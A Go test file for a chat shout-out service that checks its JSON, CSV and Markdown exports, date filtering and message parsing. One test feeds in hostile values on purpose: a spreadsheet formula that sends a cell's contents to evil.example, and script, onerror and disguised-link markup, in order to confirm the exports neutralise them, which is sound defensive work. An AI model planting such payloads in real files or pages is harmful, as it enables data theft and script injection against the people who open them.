package shoutouts

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/renderer/html"
)

func seedExport(t *testing.T) *env {
	e := newEnv(t, true, func(o *Options) { o.DailyQuota = 0 })
	loc := london(t)
	e.clock.Set(time.Date(2026, 1, 1, 23, 30, 0, 0, loc))
	e.say("UALICE", "shoutout <@UBOB> for the Hogmanay | storm posts, \"calm\" and clear #crisis")
	e.clock.Set(time.Date(2026, 1, 2, 9, 0, 0, 0, loc))
	e.say("UCAROL", "shoutout <@UDAVE> for =HYPERLINK(\"x\") jokes aside, a great FOI guide")
	e.clock.Set(time.Date(2026, 1, 3, 9, 0, 0, 0, loc))
	e.say("UALICE", "shoutout <@UCAROL> for a shout-out that gets retracted")
	e.say("UORG", "shoutout retract 3 posted by mistake")
	return e
}

func TestExportFormats(t *testing.T) {
	e := seedExport(t)
	all, err := e.svc.Since(t.Context(), time.Time{})
	if err != nil || len(all) != 3 {
		t.Fatalf("Since(zero) = %d, %v", len(all), err)
	}

	t.Run("json", func(t *testing.T) {
		var buf bytes.Buffer
		if err := WriteExport(&buf, "json", all); err != nil {
			t.Fatal(err)
		}
		var got []map[string]any
		if err := json.Unmarshal(buf.Bytes(), &got); err != nil {
			t.Fatalf("not a JSON array: %v\n%s", err, buf.String())
		}
		if len(got) != 3 {
			t.Fatalf("%d objects, want 3", len(got))
		}
		for _, k := range []string{"id", "giver_id", "recipient_id", "recipient_name", "reason", "category", "platform", "created_at"} {
			if _, ok := got[0][k]; !ok {
				t.Errorf("object lacks %q: %v", k, got[0])
			}
		}
		if got[0]["id"] != float64(1) || got[0]["giver_id"] != "UALICE" || got[0]["recipient_id"] != "UBOB" || got[0]["recipient_name"] != "Bob" ||
			got[0]["category"] != "crisis" || got[0]["platform"] != "slack" || got[0]["reason"] != `the Hogmanay | storm posts, "calm" and clear` {
			t.Errorf("first object = %v", got[0])
		}
		ts, err := time.Parse(time.RFC3339, got[0]["created_at"].(string))
		if err != nil || !ts.Equal(time.Date(2026, 1, 1, 23, 30, 0, 0, time.UTC)) {
			t.Errorf("created_at %v (%v)", got[0]["created_at"], err)
		}
		if got[2]["retracted"] != true || got[2]["retract_reason"] != "posted by mistake" {
			t.Errorf("retracted one = %v", got[2])
		}
		var empty bytes.Buffer
		WriteExport(&empty, "json", nil)
		if strings.TrimSpace(empty.String()) != "[]" {
			t.Errorf("empty export = %q, want []", empty.String())
		}
	})

	t.Run("csv", func(t *testing.T) {
		var buf bytes.Buffer
		if err := WriteExport(&buf, "csv", all); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(recs) != 4 || strings.Join(recs[0][:8], ",") != "id,giver_id,giver_name,recipient_id,recipient_name,reason,category,platform" {
			t.Fatalf("csv = %v", recs)
		}
		if recs[1][5] != `the Hogmanay | storm posts, "calm" and clear` || recs[1][9] != "2026-01-01T23:30:00Z" {
			t.Errorf("row 1 = %v", recs[1])
		}
		if !strings.HasPrefix(recs[2][5], "'=HYPERLINK") {
			t.Errorf("formula-like reason not neutralised: %q", recs[2][5])
		}
		if recs[3][10] != "true" {
			t.Errorf("retracted column = %q", recs[3][10])
		}
	})

	t.Run("markdown", func(t *testing.T) {
		var buf bytes.Buffer
		if err := WriteExport(&buf, "markdown", all); err != nil {
			t.Fatal(err)
		}
		md := buf.String()
		for _, want := range []string{"# Shout-outs", "3 shout-outs.", "| id | date | from | to | reason | category | platform |",
			`| 1 | 2026-01-01T23:30:00Z | Alice | Bob | the Hogmanay \| storm posts, "calm" and clear | #crisis | slack |`,
			"~~a shout-out that gets retracted~~ (retracted: posted by mistake)"} {
			if !strings.Contains(md, want) {
				t.Errorf("markdown lacks %q:\n%s", want, md)
			}
		}
		// Every table row has the same number of cells.
		for _, line := range strings.Split(strings.TrimSpace(md), "\n") {
			if strings.HasPrefix(line, "|") && strings.Count(strings.ReplaceAll(line, `\|`, ""), "|") != 8 {
				t.Errorf("row with wrong cell count: %s", line)
			}
		}
	})

	if err := WriteExport(&bytes.Buffer{}, "xml", all); err == nil {
		t.Error("unknown format accepted")
	}
}

func TestExportSince(t *testing.T) {
	e := seedExport(t)
	loc := london(t)
	tests := []struct {
		since string
		ids   []int64
		err   bool
	}{
		{"2026-01-01", []int64{1, 2, 3}, false},
		{"2026-01-02", []int64{2, 3}, false},
		{"2026-01-02T09:00:00Z", []int64{2, 3}, false},
		{"2026-01-02T09:00:01Z", []int64{3}, false},
		{"2026-01-01T23:00:00-01:00", []int64{2, 3}, false},
		{"2027-01-01", nil, false},
		{"yesterday", nil, true},
		{"2026-13-01", nil, true},
		{"02/01/2026", nil, true},
	}
	for _, tc := range tests {
		t.Run(tc.since, func(t *testing.T) {
			since, err := time.ParseInLocation(time.DateOnly, tc.since, loc)
			if err != nil {
				since, err = time.Parse(time.RFC3339, tc.since)
			}
			if (err != nil) != tc.err {
				t.Fatalf("parse %q: err = %v, want error %v", tc.since, err, tc.err)
			}
			if err != nil {
				return
			}
			list, err := e.svc.Since(t.Context(), since)
			if err != nil {
				t.Fatal(err)
			}
			var ids []int64
			for _, s := range list {
				ids = append(ids, s.ID)
			}
			if len(ids) != len(tc.ids) {
				t.Fatalf("ids %v, want %v", ids, tc.ids)
			}
			for i := range ids {
				if ids[i] != tc.ids[i] {
					t.Errorf("ids %v, want %v", ids, tc.ids)
				}
			}
		})
	}
}

// FuzzParseShoutout feeds the parser arbitrary text: it must not panic,
// and what it accepts must be usable.
func FuzzParseShoutout(f *testing.F) {
	for _, s := range []string{
		"@carol for the snow-day closures thread #crisis",
		"to <@U1|carol> <@U2>, and <@U3> for great work #records",
		"@carol:example.org for: calm posts",
		"for for for",
		"@ @@ <@> # #- for",
		"@a,@b,,@c for ,,, #x!",
		"\u200b@carol\tfor\nthe thread",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, in string) {
		p, err := ParseShoutout(in, nil)
		if err != nil {
			return
		}
		if len(p.Mentions) == 0 || len(p.Mentions) > MaxRecipients || strings.TrimSpace(p.Reason) == "" {
			t.Fatalf("accepted %q as %+v", in, p)
		}
		for _, m := range p.Mentions {
			if m == "" || strings.ContainsAny(m, " \t\n,") {
				t.Fatalf("bad mention %q from %q", m, in)
			}
		}
		if strings.ContainsAny(p.Category, " #\t\n") {
			t.Fatalf("bad category %q from %q", p.Category, in)
		}
		if utf8.ValidString(in) && !utf8.ValidString(p.Reason) {
			t.Fatalf("reason became invalid UTF-8: %q", p.Reason)
		}
		_ = reasonKey(p.Reason)
		_ = CountWords(p.Reason)
	})
}

// TestExportEscapesEveryField (issue 15.6): what members can put in a
// shout-out (a console ID or name is whatever they typed) must reach a
// spreadsheet as text and a rendered Markdown page as text.
func TestExportEscapesEveryField(t *testing.T) {
	const formula = `=HYPERLINK("https://evil.example/?d="&A1,"open")`
	const markup = `<script>alert(1)</script> [login](https://evil.example/login) ![x](https://evil.example/t.png) <img src=x onerror=alert(1)> **loud** | cell`
	at := time.Date(2026, 1, 2, 9, 0, 0, 0, time.UTC)
	list := []Shoutout{
		{ID: 1, GiverID: formula, GiverName: "+" + formula, RecipientID: "@mo:example.org", RecipientName: "-2+3",
			Reason: markup, Category: "crisis", Platform: "console", RoomID: "=1+1", CreatedAt: at},
		{ID: 2, GiverID: "UALICE", GiverName: markup, RecipientID: "UBOB", RecipientName: markup, Reason: formula,
			Platform: "slack", RoomID: "C1", CreatedAt: at, RetractedAt: at, RetractedBy: formula, RetractReason: markup},
	}

	t.Run("csv", func(t *testing.T) {
		var buf bytes.Buffer
		if err := WriteExport(&buf, "csv", list); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, row := range rows[1:] {
			for i, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("column %s starts like a formula: %q", rows[0][i], cell)
				}
			}
		}
		if rows[1][1] != "'"+formula || rows[1][3] != "'@mo:example.org" {
			t.Errorf("IDs not kept readable behind the quote: %q %q", rows[1][1], rows[1][3])
		}
	})

	t.Run("markdown", func(t *testing.T) {
		var buf bytes.Buffer
		if err := WriteExport(&buf, "markdown", list); err != nil {
			t.Fatal(err)
		}
		// Rendered as a permissive viewer would: tables, raw HTML allowed.
		md := goldmark.New(goldmark.WithExtensions(extension.GFM), goldmark.WithRendererOptions(html.WithUnsafe()))
		var out bytes.Buffer
		if err := md.Convert(buf.Bytes(), &out); err != nil {
			t.Fatal(err)
		}
		page := out.String()
		for _, bad := range []string{"<script", "<img", "<strong>", ">login</a>"} {
			if strings.Contains(page, bad) {
				t.Errorf("rendered export contains %q:\n%s", bad, page)
			}
		}
		// A viewer may link a bare address, showing it; never a label.
		for _, m := range regexp.MustCompile(`<a href="([^"]*)">([^<]*)</a>`).FindAllStringSubmatch(page, -1) {
			if m[1] != m[2] {
				t.Errorf("labelled link %q -> %q in the rendered export", m[2], m[1])
			}
		}
		if strings.Count(page, "<tr>") != 3 || strings.Count(page, "<td") != 14 {
			t.Errorf("table broken (want 3 rows, 14 cells):\n%s", page)
		}
		if !strings.Contains(page, "&lt;script&gt;alert(1)&lt;/script&gt; [login](") || !strings.Contains(page, "**loud** | cell") {
			t.Errorf("the reason is not shown as typed:\n%s", page)
		}
	})
}

// A reason is stored as typed, even when it starts like a formula; the
// CSV export is where that is neutralised, and the JSON keeps it exact.
func TestReasonStartingLikeFormula(t *testing.T) {
	tests := []struct {
		typed, stored string
	}{
		{"shoutout <@UBOB> for -2+3 more sums here", "-2+3 more sums here"},
		{"shoutout <@UBOB> - +44 phone tree worked", "+44 phone tree worked"},
		{"shoutout <@UBOB> for =SUM(A1) fixed the rota", "=SUM(A1) fixed the rota"},
	}
	for _, tc := range tests {
		t.Run(tc.typed, func(t *testing.T) {
			e := newEnv(t, true, nil)
			if got := replyText(e.say("UALICE", tc.typed)); !strings.Contains(got, `"`+tc.stored+`"`) {
				t.Fatalf("reply %q does not quote the reason %q", got, tc.stored)
			}
			all, err := e.svc.Since(t.Context(), time.Time{})
			if err != nil || len(all) != 1 || all[0].Reason != tc.stored {
				t.Fatalf("stored %+v (%v), want reason %q", all, err, tc.stored)
			}
			var buf bytes.Buffer
			if err := WriteExport(&buf, "csv", all); err != nil {
				t.Fatal(err)
			}
			rows, err := csv.NewReader(&buf).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			if rows[1][5] != "'"+tc.stored {
				t.Errorf("csv reason %q, want %q", rows[1][5], "'"+tc.stored)
			}
			buf.Reset()
			if err := WriteExport(&buf, "json", all); err != nil {
				t.Fatal(err)
			}
			var got []map[string]any
			if err := json.Unmarshal(buf.Bytes(), &got); err != nil || got[0]["reason"] != tc.stored {
				t.Errorf("json reason %v (%v), want %q", got, err, tc.stored)
			}
		})
	}
}
